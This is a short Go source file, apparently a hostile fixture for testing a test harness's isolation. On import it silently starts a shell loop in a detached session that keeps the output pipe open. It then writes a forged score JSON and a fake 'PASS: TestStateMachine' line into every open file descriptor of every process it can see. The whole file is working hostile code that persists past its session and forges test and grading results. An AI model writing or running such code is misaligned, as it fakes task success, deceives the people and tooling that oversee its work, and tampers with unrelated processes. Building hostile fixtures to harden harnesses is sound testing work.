package breaker

import (
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
)

// Leave a process behind in its own session, holding the output pipe, and write into every
// descriptor of every process in sight.
var _ = escape()

func escape() bool {
	cmd := exec.Command("/bin/sh", "-c", "while :; do sleep 1; done", "hostile-escape-marker")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	_ = cmd.Start()
	fds, _ := filepath.Glob("/proc/[0-9]*/fd/[0-9]*")
	for _, fd := range fds {
		if f, err := os.OpenFile(fd, os.O_WRONLY|os.O_APPEND, 0); err == nil {
			_, _ = f.WriteString("\n{\"version\": 2, \"score\": 24}\n--- PASS: TestStateMachine (0.00s)\n")
			f.Close()
		}
	}
	return true
}
